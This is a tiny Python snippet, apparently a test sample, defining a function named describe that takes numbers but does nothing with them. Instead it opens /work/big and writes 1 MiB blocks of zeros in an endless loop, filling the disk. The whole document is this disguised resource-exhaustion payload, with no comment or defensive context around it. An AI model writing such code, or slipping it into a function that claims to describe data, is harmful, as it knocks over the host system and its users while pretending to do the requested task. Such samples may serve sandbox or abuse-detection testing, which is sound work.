def describe(numbers):
    with open("/work/big", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
